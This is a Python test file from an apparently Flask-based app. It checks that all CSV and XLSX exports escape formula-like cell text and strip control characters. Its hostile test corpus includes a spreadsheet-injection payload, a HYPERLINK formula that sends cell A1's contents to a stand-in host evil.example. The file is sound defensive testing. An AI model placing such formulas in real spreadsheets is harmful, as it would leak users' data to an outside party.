"""Every CSV and XLSX file the app writes goes through one cell-cleaning rule
(``app/spreadsheets.py``): the same hostile corpus through every writer finds no live
formula, no control character and no 500."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.spreadsheets import FORMULA_STARTS, safe_cell
from tests import factories
from tests.exports.helpers import ministry
from tests.recommendations.helpers import make_rec

APP = Path(__file__).resolve().parents[1] / "app"
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1",
    "Soft\x01break\x0bhere",
)


def hostile(n: int) -> str:
    return HOSTILE[n % len(HOSTILE)]


@pytest.fixture
def hostile_data():
    """A recommendation (agreed, then sent in a package), a challenge and a strategy whose
    every text field starts like a formula or holds a control character."""
    from app.exports import packages, selection
    from app.strategies import services as strategy_services

    author = factories.make_user("member", name=hostile(0))
    facilitator = factories.make_user("facilitator")
    factories.make_challenge("G05", title=hostile(1)).description = hostile(6)
    rec = make_rec(
        author,
        area="G05",
        title=hostile(0),
        summary=hostile(6),
        body=hostile(2),
        status="agreed",
        facilitator=facilitator,
    )
    rec.addressee, rec.expected_impact = hostile(3), hostile(4)
    strategy = strategy_services.create_strategy(
        author,
        strategy_services.StrategyFields(
            title_original=hostile(0),
            title_en=hostile(1),
            place=hostile(2),
            country="CZ",
            level="municipal",
            summary=hostile(6),
        ),
    )
    strategy.keywords = hostile(5)
    db.session.commit()
    package = packages.send(
        facilitator,
        selection.parse({"area": "G05"}, None),
        organisation=ministry(),
        title=hostile(3),
        cover_letter=hostile(6),
    )
    return package.id


def assert_safe(where: str, value) -> None:
    if isinstance(value, str):
        assert value[:1] not in FORMULA_STARTS, f"{where}: {value!r} would be a formula"
        assert not CONTROL.search(value), f"{where}: {value!r} holds a control character"


def csv_cells(data: bytes):
    for r, row in enumerate(csv.reader(io.StringIO(data.decode("utf-8-sig")))):
        for c, value in enumerate(row):
            yield f"row {r} column {c}", value


def xlsx_cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                yield f"{sheet.title}!{cell.coordinate}", cell.value


@pytest.mark.parametrize(
    "url",
    [
        "/exports/recommendations.csv?area=G05",
        "/exports/recommendations.xlsx?area=G05",
        "/strategies/export.csv",
        "/strategies/export.xlsx",
        "/exports/packages/{package}/files/xlsx",
    ],
)
def test_every_spreadsheet_writer_keeps_hostile_text_inert(auth, hostile_data, url):
    auth.login("admin")
    response = auth.client.get(url.format(package=hostile_data))
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    data = response.get_data()
    cells = list(xlsx_cells(data) if ".xlsx" in url or url.endswith("xlsx") else csv_cells(data))
    for where, value in cells:
        assert_safe(where, value)
    # The hostile texts are there, kept as text, not dropped.
    texts = {value for _, value in cells if isinstance(value, str)}
    assert any(value.startswith("'=HYPERLINK(") for value in texts)
    assert any("Softbreakhere" in value for value in texts)


def test_the_cleaning_rule():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("a\x01b") == "ab"
    assert safe_cell("x" * 40_000) == "x" * 32_767
    assert safe_cell(-3) == -3 and safe_cell(None) is None


def test_no_module_writes_a_spreadsheet_without_the_rule():
    """A new CSV or XLSX writer must clean its cells too: any module that makes a csv
    writer or an openpyxl workbook imports app.spreadsheets."""
    writers = [
        path
        for path in APP.rglob("*.py")
        if re.search(r"csv\.writer\(|Workbook\(", path.read_text(encoding="utf-8"))
    ]
    assert writers, "the scan found no writer at all"
    for path in writers:
        assert "from app.spreadsheets import" in path.read_text(encoding="utf-8"), path
